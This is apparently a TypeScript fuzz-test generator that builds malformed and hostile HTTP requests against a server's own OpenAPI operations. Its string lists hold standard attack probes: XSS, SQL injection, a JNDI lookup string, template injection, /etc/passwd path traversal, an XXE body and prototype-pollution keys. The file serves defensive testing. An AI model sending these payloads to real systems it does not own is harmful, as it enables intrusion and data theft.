import { Rng } from '../market/rng';

/**
 * Hostile requests generated from an operation of the OpenAPI document, for the fuzz test
 * (server/security/fuzz.test.ts): wrong types, sizes and exponents, amounts with 40
 * decimals, Unicode that breaks things (lone surrogates, NUL, right-to-left overrides),
 * arrays and objects for scalars, prototype keys, repeated fields, malformed bodies in
 * every encoding the server reads (form, JSON, multipart, query string). The same seed
 * makes the same requests.
 */

export type JsonSchema = {
  type?: string;
  anyOf?: JsonSchema[];
  const?: unknown;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  properties?: Record<string, JsonSchema>;
  required?: string[];
};

export interface Operation {
  method: 'GET' | 'POST';
  /** /api/... */
  path: string;
  access: 'public' | 'user' | 'operator';
  upload: boolean;
  /** the declared fields (query parameters of a GET, the body of a POST) */
  fields: Record<string, JsonSchema>;
  required: string[];
}

type OpenApiDocument = {
  paths: Record<
    string,
    Record<
      string,
      {
        security?: Record<string, unknown>[];
        parameters?: { name: string; in: string; required: boolean; schema: JsonSchema }[];
        requestBody?: { content: Record<string, { schema: JsonSchema }> };
      }
    >
  >;
};

/** Every operation of the document, with the fields it declares (lang left out: every request may carry it). */
export function operationsOf(document: unknown): Operation[] {
  const operations: Operation[] = [];
  for (const [path, methods] of Object.entries((document as OpenApiDocument).paths)) {
    for (const [method, operation] of Object.entries(methods)) {
      const security = Object.keys(operation.security?.[0] ?? {})[0];
      const access = security === 'token' ? 'user' : security === 'operatorToken' ? 'operator' : 'public';
      const content = operation.requestBody?.content ?? {};
      const upload = content['multipart/form-data'] !== undefined && content['application/json'] === undefined;
      const fields: Record<string, JsonSchema> = {};
      const required: string[] = [];
      if (method === 'get') {
        for (const parameter of operation.parameters ?? []) {
          if (parameter.name === 'lang') continue;
          fields[parameter.name] = parameter.schema;
          if (parameter.required) required.push(parameter.name);
        }
      } else if (!upload) {
        const schema = content['application/json']?.schema ?? {};
        for (const [name, field] of Object.entries(schema.properties ?? {})) if (name !== 'lang') fields[name] = field;
        required.push(...(schema.required ?? []));
      }
      operations.push({ method: method.toUpperCase() as 'GET' | 'POST', path, access, upload, fields, required });
    }
  }
  return operations;
}

/** A JSON value written as raw text, for what JSON.stringify cannot write (1e400, -0, 40 decimals as a number). */
export class RawJson {
  constructor(readonly text: string) {}
}
export type FieldValue = string | number | boolean | null | RawJson | FieldValue[] | { [key: string]: FieldValue };

export type Encoding = 'form' | 'json' | 'multipart' | 'query';

/** One generated request, ready for app.inject. */
export interface FuzzRequest {
  method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH' | 'OPTIONS' | 'HEAD';
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
  /** logged in: the caller's token (or the operator's) is added by the runner */
  loggedIn: boolean;
  /** a short description to reproduce it */
  label: string;
  /** sent to a twisted path or with another method: not the operation's route */
  offRoute?: true;
}

/**
 * What the runner knows passes: values per field name, whole inputs per path (a withdrawal
 * that would go through, an order that would fill) that cases then bend one field of, and
 * files an upload takes.
 */
export interface Known {
  values: Record<string, readonly FieldValue[]>;
  inputs: Record<string, readonly Record<string, FieldValue>[]>;
  files: readonly { name: string; type: string; bytes: Buffer }[];
}

const LONG = 'x'.repeat(5000);
export const HOSTILE_TEXT: readonly string[] = [
  '',
  ' ',
  '\t\n',
  '0',
  '-0',
  '-1',
  '00001',
  '1e308',
  '1e-308',
  '1e400',
  '-1e400',
  '9e999999999',
  '1E+2',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x1F',
  '0b101',
  '1_000',
  '1,5',
  '1.',
  '.5',
  '+5',
  '1.5',
  '2147483648',
  '9007199254740993',
  '-9223372036854775809',
  '18446744073709551616',
  '0.' + '1'.repeat(40),
  '1.' + '0'.repeat(39) + '1',
  '123456789012345678901.' + '9'.repeat(30),
  '9'.repeat(40),
  '9'.repeat(400),
  '0.' + '0'.repeat(60) + '1',
  '١٢٣',
  '１２３',
  '²',
  'true',
  'false',
  'null',
  'undefined',
  '[]',
  '{}',
  '[object Object]',
  '__proto__',
  'constructor',
  'prototype',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1' --",
  '1; DROP TABLE users; --',
  "1' UNION ALL SELECT NULL--",
  '${jndi:ldap://example.com/a}',
  '{{constructor.constructor("return 1")()}}',
  '%s%s%s%n',
  '../../../../etc/passwd',
  '/uploads/../../exchange.db',
  'C:\\Windows\\win.ini',
  '\u0000',
  'a\u0000b',
  '\u202eevil',
  '\ufeffBOM',
  '\ud800',
  '\udfff\ud800',
  '😀'.repeat(50),
  'é'.normalize('NFD').repeat(30),
  'Ω≈ç√∫˜µ≤≥÷',
  '田中さんにあげて下さい',
  'ﷺ',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  LONG,
  'a'.repeat(65),
  'a'.repeat(255),
  'a'.repeat(4097),
];

/** Whole numbers as text, past every integer type (a form's integer is converted from its digits). */
const INTEGER_TEXT: readonly string[] = [
  '0',
  '-1',
  '2147483647',
  '2147483648',
  '4294967296',
  '9007199254740993',
  '9223372036854775807',
  '9223372036854775808',
  '18446744073709551616',
  '9'.repeat(40),
  '-' + '9'.repeat(40),
  ' 7 ',
  '07',
];

/** Text that passes an amount's or a name's pattern and is still awkward. */
const EDGE_TEXT: readonly string[] = [
  '0',
  '0.0',
  '0.' + '0'.repeat(29) + '1',
  '0.' + '0'.repeat(30),
  '9'.repeat(21),
  '9'.repeat(21) + '.' + '9'.repeat(30),
  '1.' + '1'.repeat(30),
  '100000000000000000000',
  '0.00000001',
  '0.000000001',
  '1.0000001',
  'a',
  'A1',
  '  spaced  ',
  '\t',
];

/** Numbers and other JSON a field may get in a JSON body, where a form can only send text. */
const HOSTILE_JSON: readonly FieldValue[] = [
  0,
  -1,
  1.5,
  -0.5,
  1e308,
  -1e308,
  5e-324,
  2 ** 31,
  2 ** 53 + 2,
  Number.MAX_SAFE_INTEGER,
  true,
  false,
  null,
  [],
  [1, 2],
  ['a'],
  [[[[[]]]]],
  {},
  { a: 1 },
  new RawJson('{"__proto__":{"polluted":true}}'),
  new RawJson('{"constructor":{"prototype":{"polluted":true}}}'),
  new RawJson('1e400'),
  new RawJson('-1e400'),
  new RawJson('-0'),
  new RawJson('1.0000000000000000000000000000000000000001'),
  new RawJson('0.' + '3'.repeat(40)),
  new RawJson('123456789012345678901234567890123456789012345678901234567890'),
  new RawJson('1E2'),
  new RawJson('"\\ud800"'),
  new RawJson('"\\u0000"'),
];

/** Field names that are not fields: prototype keys, brackets, oddities. */
const HOSTILE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  '__proto__[polluted]',
  'constructor[prototype][polluted]',
  'a[]',
  'a[0]',
  '',
  ' ',
  'lang',
  'toString',
  'hasOwnProperty',
  'x'.repeat(300),
  'ключ',
  '\u0000',
];

/** Bodies no parser should choke on. */
const JUNK_BODIES: readonly { type: string | null; body: string | Buffer }[] = [
  { type: 'application/json', body: '{"a":' },
  { type: 'application/json', body: '[1,2,3]' },
  { type: 'application/json', body: '"text"' },
  { type: 'application/json', body: '42' },
  { type: 'application/json', body: 'null' },
  { type: 'application/json', body: '\ufeff{}' },
  { type: 'application/json', body: '{"a":1,"a":2}' },
  { type: 'application/json', body: '{"__proto__":{"polluted":1}}' },
  { type: 'application/json', body: '['.repeat(5000) + ']'.repeat(5000) },
  { type: 'application/json', body: '{"a":' + '['.repeat(20000) },
  { type: 'application/json', body: '{"a":"\\' },
  { type: 'application/json', body: '{"a":"' + 'b'.repeat(70_000) + '"}' },
  { type: 'application/json', body: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]) },
  { type: 'application/json; charset=utf-16le', body: Buffer.from('{"a":"b"}', 'utf16le') },
  { type: 'application/json', body: '' },
  { type: 'application/x-www-form-urlencoded', body: '%E0%A4%A' },
  { type: 'application/x-www-form-urlencoded', body: 'a=%zz&b=%' },
  { type: 'application/x-www-form-urlencoded', body: '&&&===&=&a' },
  { type: 'application/x-www-form-urlencoded', body: 'a=1&a=2' },
  { type: 'application/x-www-form-urlencoded', body: '__proto__=x' },
  { type: 'application/x-www-form-urlencoded', body: 'a=' + '%00'.repeat(100) },
  { type: 'application/x-www-form-urlencoded', body: 'x=' + 'y'.repeat(70_000) },
  { type: 'application/x-www-form-urlencoded; charset=iso-8859-1', body: Buffer.from([0x61, 0x3d, 0xe9]) },
  { type: 'multipart/form-data', body: '--x\r\n' },
  { type: 'multipart/form-data; boundary=', body: '--\r\n' },
  { type: 'multipart/form-data; boundary=x', body: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb' },
  { type: 'multipart/form-data; boundary=x', body: '--x\r\nContent-Disposition: form-data\r\n\r\nb\r\n--x--\r\n' },
  { type: 'multipart/form-data; boundary=x', body: '--x\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\nb\r\n--x--\r\n' },
  { type: 'multipart/form-data; boundary=x', body: 'garbage' },
  { type: 'multipart/form-data; boundary=' + 'b'.repeat(200), body: '--b\r\n' },
  { type: 'multipart/mixed; boundary=x', body: '--x--\r\n' },
  { type: 'text/plain', body: 'a=1' },
  { type: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
  { type: 'application/octet-stream', body: Buffer.from([0, 1, 2, 3, 255]) },
  { type: 'application/json-patch+json', body: '[]' },
  { type: '*/*', body: 'a' },
  { type: 'garbage', body: 'a' },
  { type: null, body: 'a=1' },
];

/** Upload bodies: not images, broken images, two files, a field where the file should be. */
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const UPLOAD_FILES: readonly { name: string; type: string; bytes: Buffer }[] = [
  { name: 'a.png', type: 'image/png', bytes: PNG_SIGNATURE },
  { name: 'a.png', type: 'image/png', bytes: Buffer.concat([PNG_SIGNATURE, Buffer.alloc(64, 0xff)]) },
  { name: 'a.gif', type: 'image/gif', bytes: Buffer.from('GIF89a<script>alert(1)</script>') },
  { name: 'a.svg', type: 'image/svg+xml', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
  { name: '../../../etc/passwd', type: 'image/jpeg', bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]) },
  { name: 'a.webp', type: 'image/webp', bytes: Buffer.from('RIFF\u0000\u0000\u0000\u0000WEBPVP8 ') },
  { name: 'a.txt', type: 'text/plain', bytes: Buffer.from('hello') },
  { name: '', type: '', bytes: Buffer.alloc(0) },
  { name: 'a.png', type: 'image/png', bytes: Buffer.alloc(200_000, 0x41) },
];

export class FuzzGenerator {
  private readonly rng: Rng;

  constructor(
    seed: number,
    private readonly known: Known,
  ) {
    this.rng = new Rng(seed);
  }

  private int(below: number): number {
    return Math.floor(this.rng.next() * below);
  }
  private chance(p: number): boolean {
    return this.rng.next() < p;
  }
  private pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }

  /**
   * A value that passes the field's schema and is as awkward as it may be: the ends of an
   * integer's range; text at its longest; amounts with 21 digits, 30 decimals, or zero.
   */
  edge(schema: JsonSchema): FieldValue | undefined {
    if (schema.anyOf && schema.anyOf.length > 0) return this.edge(this.pick(schema.anyOf));
    if (schema.type === 'integer') {
      const min = schema.minimum ?? -(2 ** 63);
      // Without a maximum, whole numbers past what a database integer holds.
      return schema.maximum === undefined ? this.pick([min, min + 1, 2 ** 53, 2 ** 63, 1e40]) : this.pick([min, schema.maximum, min + 1, schema.maximum - 1]);
    }
    if (schema.type !== 'string' || schema.format !== undefined) return undefined;
    const pattern = schema.pattern === undefined ? null : new RegExp(schema.pattern);
    const fits = (text: string) => text.length >= (schema.minLength ?? 0) && text.length <= (schema.maxLength ?? Infinity) && (pattern === null || pattern.test(text));
    const max = schema.maxLength ?? 64;
    const candidates = [...EDGE_TEXT, 'a'.repeat(max), '9'.repeat(max), 'A'.repeat(max), 'é'.repeat(max), '中'.repeat(max), ...HOSTILE_TEXT].filter(fits);
    return candidates.length > 0 ? this.pick(candidates) : undefined;
  }

  /** A value meant to pass the field's schema: a known one, a choice, a number in range, text of a fitting length. */
  valid(name: string, schema: JsonSchema): FieldValue {
    if (this.chance(0.2)) {
      const edge = this.edge(schema);
      if (edge !== undefined) return edge;
    }
    // Known values of the field's type: a number for an integer field, text for a text field.
    const wanted = schema.type === 'integer' || schema.type === 'number' ? 'number' : schema.type === 'string' ? 'string' : null;
    const known = (this.known.values[name] ?? []).filter((value) => wanted === null || typeof value === wanted);
    if (known.length > 0 && this.chance(0.8)) return this.pick(known);
    if (schema.const !== undefined) return schema.const as FieldValue;
    if (schema.anyOf && schema.anyOf.length > 0) return this.valid(name, this.pick(schema.anyOf));
    if (schema.type === 'integer' || schema.type === 'number') {
      const min = schema.minimum ?? 0;
      const max = schema.maximum ?? min + 1000;
      return this.chance(0.7) ? min + this.int(Math.min(6, max - min + 1)) : min + this.int(max - min + 1);
    }
    if (schema.type === 'boolean') return this.chance(0.5);
    const min = schema.minLength ?? 1;
    const max = Math.min(schema.maxLength ?? 20, Math.max(min, 24));
    const length = min + this.int(max - min + 1);
    const alphabet = schema.pattern?.includes('0-9]') && !schema.pattern.includes('A-Z') ? '0123456789' : 'abcdefghijklmnopqrstuvwxyz0123456789';
    let text = '';
    for (let i = 0; i < length; i++) text += alphabet[this.int(alphabet.length)];
    return text;
  }

  /** A value meant to break the field: text (JSON and text encodings), or any JSON (JSON bodies). */
  hostile(schema: JsonSchema, json: boolean): FieldValue {
    if (schema.type === 'integer' && this.chance(0.4)) return this.pick(json ? [...INTEGER_TEXT, 2 ** 63, 1e40, -(2 ** 63), 0.5] : INTEGER_TEXT);
    if (json && this.chance(0.45)) return this.pick(HOSTILE_JSON);
    if (this.chance(0.15) && schema.maxLength !== undefined) return 'a'.repeat(schema.maxLength + 1);
    if (this.chance(0.1)) return [this.pick(HOSTILE_TEXT), this.pick(HOSTILE_TEXT)];
    return this.pick(HOSTILE_TEXT);
  }

  /** The fields of one case: valid ones with a few broken, all broken, some missing, extra keys. */
  fields(operation: Operation, json: boolean): [string, FieldValue][] {
    const names = Object.keys(operation.fields);
    const mode = this.int(10);
    const out: [string, FieldValue][] = [];
    const inputs = this.known.inputs[operation.path] ?? [];
    if (mode <= 3 && inputs.length > 0 && this.chance(0.6)) {
      // An input that would go through, as it is or with one field bent: awkward but valid, or broken.
      const input = Object.entries(this.pick(inputs));
      const bent = this.chance(0.3) ? -1 : this.int(input.length);
      input.forEach(([name, value], i) => {
        const schema = operation.fields[name] ?? {};
        out.push([name, i !== bent ? value : this.chance(0.5) ? (this.edge(schema) ?? this.hostile(schema, json)) : this.hostile(schema, json)]);
      });
      return out;
    }
    for (const name of names) {
      const schema = operation.fields[name]!;
      const required = operation.required.includes(name);
      if (mode <= 3) {
        // mostly valid, one in three fields broken (or none, now and then)
        if (!required && this.chance(0.3)) continue;
        out.push([name, this.chance(1 / Math.max(2, names.length)) ? this.hostile(schema, json) : this.valid(name, schema)]);
      } else if (mode <= 6) {
        if (this.chance(0.15)) continue;
        out.push([name, this.hostile(schema, json)]);
      } else if (mode === 7) {
        if (this.chance(0.5)) out.push([name, this.valid(name, schema)]);
      } else {
        out.push([name, this.chance(0.5) ? this.valid(name, schema) : this.hostile(schema, json)]);
      }
    }
    if (mode >= 8 || this.chance(0.1)) {
      const extra = 1 + this.int(3);
      for (let i = 0; i < extra; i++) {
        const key = this.chance(0.5) ? this.pick(HOSTILE_KEYS) : names.length > 0 ? this.pick(names) : 'a';
        out.push([key, this.chance(0.5) ? this.pick(HOSTILE_TEXT) : key === 'lang' ? this.pick(['zh-cn', 'xx', '__proto__', '']) : 'x']);
      }
    }
    if (this.chance(0.1)) out.push(['lang', this.pick(['en', 'zh-cn', 'zh-tw', 'th', 'jp', 'kor', 'fra', 'spa', '', '__proto__', 'x'.repeat(500), '\u0000', 'toString'])]);
    return out;
  }

  /** One request for an operation, logged in or not, in one of the encodings the server reads. */
  request(operation: Operation, loggedIn: boolean): FuzzRequest {
    const headers: Record<string, string> = {};
    if (this.chance(0.1)) headers['accept-language'] = this.pick(['zh-CN,zh;q=0.9', '*', 'x'.repeat(2000), 'en;q=abc', '__proto__', ',,,;;;']);
    if (!loggedIn && this.chance(0.5)) {
      const junk = this.pick(['Bearer ', 'Bearer null', 'undefined', 'x'.repeat(101), 'A'.repeat(43), 'Bearer ' + 'A'.repeat(43), "' OR '1'='1", '__proto__', 'a'.repeat(8000)]);
      if (operation.access === 'operator') headers['x-operator-token'] = junk;
      else headers['authorization'] = junk;
    }
    if (this.chance(0.04)) return this.offRoute(operation, loggedIn, headers);
    if (operation.upload) return this.upload(operation, loggedIn, headers);
    if (operation.method === 'GET') {
      const fields = this.fields(operation, false);
      const query = this.formText(fields);
      const request: FuzzRequest = { method: 'GET', url: `${operation.path}${query ? `?${query}` : ''}`, headers, loggedIn, label: `query ${query.slice(0, 300)}` };
      // A body where none is read: JSON, or a multipart form the multipart hook would otherwise read.
      const body = this.int(100);
      if (body < 3) {
        headers['content-type'] = 'application/json';
        request.payload = '{"a":1}';
      } else if (body < 6) {
        const { payload, type } = this.multipart([['a', 'b']], null);
        headers['content-type'] = type;
        request.payload = payload;
      }
      return request;
    }
    const kind = this.int(20);
    if (kind === 0) {
      const junk = this.pick(JUNK_BODIES);
      if (junk.type !== null) headers['content-type'] = junk.type;
      return { method: 'POST', url: operation.path, headers, payload: junk.body, loggedIn, label: `junk ${junk.type} ${String(junk.body).slice(0, 120)}` };
    }
    const encoding: Encoding = kind <= 7 ? 'form' : kind <= 14 ? 'json' : kind <= 18 ? 'multipart' : 'query';
    const fields = this.fields(operation, encoding === 'json');
    if (encoding === 'json') {
      headers['content-type'] = 'application/json';
      const payload = this.jsonText(fields);
      return { method: 'POST', url: operation.path, headers, payload, loggedIn, label: `json ${payload.slice(0, 300)}` };
    }
    if (encoding === 'multipart') {
      const { payload, type } = this.multipart(fields, this.chance(0.1) ? this.pick(UPLOAD_FILES) : null);
      headers['content-type'] = type;
      return { method: 'POST', url: operation.path, headers, payload, loggedIn, label: `multipart ${payload.toString('latin1').slice(0, 300)}` };
    }
    const text = this.formText(fields);
    if (encoding === 'query') return { method: 'POST', url: `${operation.path}?${text}`, headers, loggedIn, label: `post query ${text.slice(0, 300)}` };
    headers['content-type'] = 'application/x-www-form-urlencoded';
    return { method: 'POST', url: operation.path, headers, payload: text, loggedIn, label: `form ${text.slice(0, 300)}` };
  }

  /** The operation's path twisted (bad percent-encoding, NUL, dot segments, case), or another method. */
  private offRoute(operation: Operation, loggedIn: boolean, headers: Record<string, string>): FuzzRequest {
    const path = operation.path;
    const twisted = this.pick([
      `${path}%E0%A4%A`,
      `${path}%`,
      `${path}%00`,
      `${path}%zz`,
      `${path}/`,
      `${path}//`,
      path.toUpperCase(),
      `${path};a=1`,
      `${path}/..`,
      `${path}%2F..%2F..`,
      `/api/%2e%2e${path}`,
      `${path}?%`,
      `${path}?a=%E0%A4%A`,
      `${path}#x`,
    ]);
    if (this.chance(0.5)) return { method: operation.method, url: twisted, headers, loggedIn, label: `path ${twisted}`, offRoute: true };
    const method = this.pick(['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', operation.method === 'GET' ? 'POST' : 'GET'] as const);
    const request: FuzzRequest = { method, url: path, headers, loggedIn, label: `method ${method}`, offRoute: true };
    if (method !== 'GET' && method !== 'HEAD') {
      headers['content-type'] = 'application/x-www-form-urlencoded';
      request.payload = 'a=1';
    }
    return request;
  }

  private upload(operation: Operation, loggedIn: boolean, headers: Record<string, string>): FuzzRequest {
    const kind = this.int(10);
    if (kind === 0) {
      const junk = this.pick(JUNK_BODIES);
      if (junk.type !== null) headers['content-type'] = junk.type;
      return { method: 'POST', url: operation.path, headers, payload: junk.body, loggedIn, label: `upload junk ${junk.type}` };
    }
    const fields: [string, FieldValue][] = this.chance(0.3) ? [[this.pick(['file', 'lang', '__proto__', 'a']), this.pick(HOSTILE_TEXT)]] : [];
    const file = this.pick([...UPLOAD_FILES, ...this.known.files, ...this.known.files]);
    const files = kind === 1 ? [file, file] : kind === 2 ? [] : [file];
    const { payload, type } = this.multipart(fields, files[0] ?? null, files[1] ?? null, this.chance(0.2) ? this.pick(['avatar', '', '__proto__']) : 'file');
    headers['content-type'] = type;
    return {
      method: 'POST',
      url: operation.path,
      headers,
      payload,
      loggedIn,
      label: `upload ${files.length} ${file.name} ${file.type} ${file.bytes.length}B fields ${JSON.stringify(fields).slice(0, 100)}`,
    };
  }

  private text(value: FieldValue): string {
    if (value instanceof RawJson) return value.text;
    // A whole number as a form writes it: its digits, never 1e+40.
    if (typeof value === 'number' && Number.isInteger(value) && Math.abs(value) >= 1e21) return BigInt(value).toString();
    return typeof value === 'object' && value !== null ? JSON.stringify(value) : String(value);
  }

  /** form-urlencoded text: arrays as repeated keys; text that cannot be percent-encoded (a lone surrogate) as its raw bytes. */
  private formText(fields: [string, FieldValue][]): string {
    const encode = (text: string) => {
      try {
        return encodeURIComponent(text);
      } catch {
        return [...text].map((ch) => (/[\ud800-\udfff]/.test(ch) ? '%ED%A0%80' : encodeURIComponent(ch))).join('');
      }
    };
    const parts: string[] = [];
    for (const [key, value] of fields) {
      if (Array.isArray(value)) for (const item of value) parts.push(`${encode(key)}=${encode(this.text(item))}`);
      else parts.push(`${encode(key)}=${encode(this.text(value))}`);
    }
    return parts.join('&');
  }

  /** JSON text written by hand, so keys may repeat and numbers may be what JSON.stringify cannot write. */
  private jsonText(fields: [string, FieldValue][]): string {
    const write = (value: FieldValue): string => {
      if (value instanceof RawJson) return value.text;
      if (Array.isArray(value)) return `[${value.map(write).join(',')}]`;
      if (typeof value === 'object' && value !== null)
        return `{${Object.entries(value)
          .map(([k, v]) => `${JSON.stringify(k)}:${write(v)}`)
          .join(',')}}`;
      return JSON.stringify(value) ?? 'null';
    };
    return `{${fields.map(([key, value]) => `${JSON.stringify(key)}:${write(value)}`).join(',')}}`;
  }

  private multipart(
    fields: [string, FieldValue][],
    file: { name: string; type: string; bytes: Buffer } | null,
    second: { name: string; type: string; bytes: Buffer } | null = null,
    fileField = 'file',
  ): { payload: Buffer; type: string } {
    const boundary = `----fuzz${this.int(1e9).toString(16)}`;
    const parts: Buffer[] = [];
    for (const [key, value] of fields) {
      for (const item of Array.isArray(value) ? value : [value]) {
        parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${key.replace(/"/g, '%22')}"\r\n\r\n${this.text(item)}\r\n`));
      }
    }
    for (const part of [file, second]) {
      if (!part) continue;
      parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${fileField}"; filename="${part.name}"\r\nContent-Type: ${part.type}\r\n\r\n`), part.bytes, Buffer.from('\r\n'));
    }
    const broken = this.int(25);
    if (broken === 0) return { payload: Buffer.concat(parts), type: `multipart/form-data; boundary=${boundary}` }; // no closing boundary
    parts.push(Buffer.from(`--${boundary}--\r\n`));
    const type = broken === 1 ? 'multipart/form-data' : broken === 2 ? `multipart/form-data; boundary="${boundary}"` : `multipart/form-data; boundary=${boundary}`;
    return { payload: Buffer.concat(parts), type };
  }
}
